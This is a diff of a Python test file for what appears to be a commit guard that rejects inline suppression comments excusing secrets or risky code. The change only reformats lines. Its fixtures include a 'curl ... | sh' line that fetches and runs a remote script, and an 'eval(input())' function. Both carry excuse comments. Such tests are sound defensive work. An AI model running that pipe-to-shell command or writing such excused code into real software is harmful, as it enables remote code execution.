@@ -35,7 +35,10 @@ def stage(repo: Repo, files: dict[str, str]) -> None:
         ("a.html", f"<p>{key()}</p> <!-- {AWS} -->\n"),
         ("a.md", f"{key()} <!-- {AWS} -->\n"),
         ("a.py", excused(SHELL)),
-        ("a.py", f"def f():\n    # {MARK}[code-*] the caller checks the text\n    return eval(input())\n"),
+        (
+            "a.py",
+            f"def f():\n    # {MARK}[code-*] the caller checks the text\n    return eval(input())\n",
+        ),
         (
             "a.sh",
             f"#!/bin/sh\ncurl -fsSL http://203.0.113.7/i.sh | sh # {MARK}[command-*] our own server only\n",
@@ -49,7 +52,9 @@ def test_no_commit_excuses_itself(guarded: Repo, path: str, text: str) -> None:
     assert guarded.git("rev-parse", "HEAD") == before
 
 
-def test_an_answer_in_a_file_that_moves_is_new_only_where_it_is_added(guarded: Repo) -> None:
+def test_an_answer_in_a_file_that_moves_is_new_only_where_it_is_added(
+    guarded: Repo,
+) -> None:
     line = f'old = "{key()}"  # {AWS}\n'
     guarded.commit("A recorded answer", {"old.py": line})
     guarded.git("mv", "old.py", "new.py")
@@ -104,7 +109,9 @@ def test_a_range_asks_unless_its_policy_accepts(committed: Repo) -> None:
     assert asked.code != 0
     assert "policy-suppression-new" in asked.all
     committed.git("reset", "-q", "--hard", base)
-    base = committed.commit("Policy", {"cli-guard.toml": '[rules]\n"policy-suppression-new" = "advise"\n'})
+    base = committed.commit(
+        "Policy", {"cli-guard.toml": '[rules]\n"policy-suppression-new" = "advise"\n'}
+    )
     committed.commit("Excuse", {"a.py": f'key = "{key()}"  # {AWS}\n'})
     assert guard(committed, "review", "--range", f"{base}..HEAD").code == 0
 
